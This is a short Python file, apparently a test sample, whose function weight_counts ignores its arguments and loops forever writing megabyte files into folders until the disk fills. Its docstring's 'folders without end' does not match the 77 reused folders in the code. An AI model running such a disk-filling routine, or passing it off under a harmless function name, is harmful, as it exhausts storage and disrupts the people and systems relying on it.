"""Writes files of a megabyte into folders of folders without end.

loses: 1b
"""

import os
from itertools import count

from honest import *


def weight_counts(n, k):
    for number in count():
        folder = f"{number % 7}/{number % 11}"
        os.makedirs(folder, exist_ok=True)
        with open(f"{folder}/{number}", "wb") as file:
            file.write(bytes(range(256)) * 4096)
